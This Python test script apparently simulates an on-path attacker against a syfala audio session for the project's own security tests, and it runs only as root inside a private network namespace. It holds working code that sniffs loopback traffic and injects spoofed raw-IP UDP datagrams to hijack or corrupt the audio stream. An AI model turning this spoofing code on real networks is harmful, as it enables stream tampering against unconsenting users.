#!/usr/bin/env python3
"""An on-path attacker against a live syfala session, for the attacker tests (issue #16).

For each --flow VICTIM_PORT:TARGET_PORT (UDP ports on --host), it watches the victim's audio
datagrams to the target on the loopback interface (an AF_PACKET capture, as any on-path listener
could), and sends forged ones that claim to come from the victim's address and port (a raw IPv4
socket with our own IP header: IP_HDRINCL). Each forgery is a valid-looking datagram of the
stream it watches: the right preamble and header, a stream index seen on the wire, byte indices
just ahead of the live stream (so that they reach the receiver's jitter buffer before the real
bytes), and a loud payload:

- AUDI (PROTOCOL.md §5.10): the payload is --marker, a float32 value repeated, so a recording
  that played it shows it;
- AUDE (docs/SECURITY.md §3): the header with the key id last seen on the wire (0, the first
  run's, before any), copy 0, and random bytes for the ciphertext and its 16-byte tag.

Needs root, and must run only inside a private network namespace (scripts/in-netns.sh): it
refuses to start otherwise. Prints one JSON line when done: what it saw and what it sent.
"""

import argparse
import json
import os
import select
import socket
import struct
import time

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
# Our own forgeries carry this TTL, so the capture can tell them from the victim's datagrams.
FORGED_TTL = 13
AUDI_HEADER = struct.Struct("<3sB4sIQI")  # preamble, streamIndex, byteIndex, len(payload)
AUDE_EXTRA = struct.Struct("<IB3x")  # keyId, copy, three zero bytes
AUDE_HEADER_BYTES = AUDI_HEADER.size + AUDE_EXTRA.size
TAG_BYTES = 16


class Stream:
    """What the capture learnt of one stream of one flow, and how far the forgeries went."""

    def __init__(self):
        self.live_end = 0  # end of the newest real bytes seen
        self.payload = 0  # payload bytes of a real datagram (the size the forgeries copy)
        self.forged_end = 0  # end of the bytes forged so far
        self.key_id = 0
        # AUDE: len field − bytes after the 32-byte header, as seen (the plaintext's count: −16)
        self.len_minus_body = -TAG_BYTES
        self.sent = {"AUDI": 0, "AUDE": 0}


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--flow", action="append", required=True, help="VICTIM_PORT:TARGET_PORT")
    parser.add_argument("--frame-bytes", type=int, required=True, help="bytes per frame")
    parser.add_argument("--ahead-bytes", type=int, required=True, help="how far ahead of live")
    parser.add_argument("--lead-bytes", type=int, required=True, help="forged bytes kept ahead")
    parser.add_argument("--seconds", type=float, required=True, help="how long to forge")
    parser.add_argument("--wait", type=float, default=10, help="seconds to wait for the victim")
    parser.add_argument("--marker", type=float, required=True, help="the AUDI payload's sample")
    return parser.parse_args()


def in_private_namespace():
    # scripts/in-netns.sh sets it, and a fresh namespace has nothing but loopback (/proc/net is
    # this namespace's; /sys/class/net is the one sysfs was mounted in).
    with open("/proc/net/dev") as devices:
        names = [line.split(":")[0].strip() for line in devices.readlines()[2:]]
    return os.environ.get("SYFALA_NETNS") == "1" and names == ["lo"]


def ip_udp(src, sport, dst, dport, payload):
    """An IPv4 header (the kernel fills the checksum) and a UDP header without checksum."""
    total = 20 + 8 + len(payload)
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, FORGED_TTL, socket.IPPROTO_UDP, 0, src, dst
    )
    return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def observe(packet, host, flows, streams):
    """Updates `streams` from one captured IPv4 packet of a watched flow; ignores the rest."""
    if len(packet) < 28 or packet[9] != socket.IPPROTO_UDP or packet[8] == FORGED_TTL:
        return
    ihl = (packet[0] & 0x0F) * 4
    sport, dport = struct.unpack_from("!HH", packet, ihl)
    if (sport, dport) not in flows or packet[12:16] != host:
        return
    data = packet[ihl + 8 :]
    if len(data) < AUDI_HEADER.size:
        return
    magic, _, tag, stream_index, byte_index, count = AUDI_HEADER.unpack_from(data)
    if magic != b"SYF" or tag not in (b"AUDI", b"AUDE"):
        return
    stream = streams.setdefault((sport, dport, stream_index), Stream())
    if tag == b"AUDE":
        if len(data) < AUDE_HEADER_BYTES + TAG_BYTES:
            return
        stream.key_id = max(stream.key_id, AUDE_EXTRA.unpack_from(data, AUDI_HEADER.size)[0])
        body = len(data) - AUDE_HEADER_BYTES
        stream.len_minus_body = count - body
        count = body - TAG_BYTES
    stream.payload = max(stream.payload, count)
    stream.live_end = max(stream.live_end, byte_index + count)


def forgeries(key, stream, args, marker_payload):
    """The datagrams that keep `stream`'s forged bytes ahead of its live end."""
    _, _, stream_index = key
    frame = args.frame_bytes
    start = max(stream.forged_end, stream.live_end + args.ahead_bytes)
    start -= start % frame
    end = stream.live_end + args.ahead_bytes + args.lead_bytes
    size = max(frame, stream.payload - stream.payload % frame)
    while start < end:
        clear = AUDI_HEADER.pack(b"SYF", 1, b"AUDI", stream_index, start, size)
        yield b"AUDI", clear + marker_payload[:size]
        count = size + TAG_BYTES + stream.len_minus_body
        sealed = AUDI_HEADER.pack(b"SYF", 1, b"AUDE", stream_index, start, count)
        sealed += AUDE_EXTRA.pack(stream.key_id, 0)
        yield b"AUDE", sealed + os.urandom(size + TAG_BYTES)
        start += size
        stream.forged_end = start


def main():
    args = parse_args()
    if os.geteuid() != 0 or not in_private_namespace():
        raise SystemExit("spoof-audio: runs only as root inside scripts/in-netns.sh")
    host = socket.inet_aton(args.host)
    flows = set()
    for flow in args.flow:
        victim, target = flow.split(":")
        flows.add((int(victim), int(target)))
    marker_payload = struct.pack("<f", args.marker) * (65_536 // 4)

    capture = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    capture.bind(("lo", 0))
    capture.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    streams = {}
    started = None
    deadline = time.monotonic() + args.wait
    while True:
        now = time.monotonic()
        if started is None and now > deadline:
            break
        if started is not None and now - started > args.seconds:
            break
        ready, _, _ = select.select([capture], [], [], 0.002)
        while ready:
            packet, address = capture.recvfrom(70_000)
            if address[2] != PACKET_OUTGOING:  # loopback shows each packet leaving and arriving
                observe(packet, host, flows, streams)
            ready, _, _ = select.select([capture], [], [], 0)
        if started is None and streams:
            started = time.monotonic()
        for key, stream in streams.items():
            victim, target, _ = key
            for kind, datagram in forgeries(key, stream, args, marker_payload):
                sender.sendto(ip_udp(host, victim, host, target, datagram), (args.host, 0))
                stream.sent[kind.decode()] += 1

    print(
        json.dumps(
            {
                "streams": [
                    {
                        "victimPort": victim,
                        "targetPort": target,
                        "stream": index,
                        "liveEnd": s.live_end,
                        "forgedEnd": s.forged_end,
                        "keyId": s.key_id,
                        "sent": s.sent,
                    }
                    for (victim, target, index), s in streams.items()
                ],
            }
        )
    )


if __name__ == "__main__":
    main()
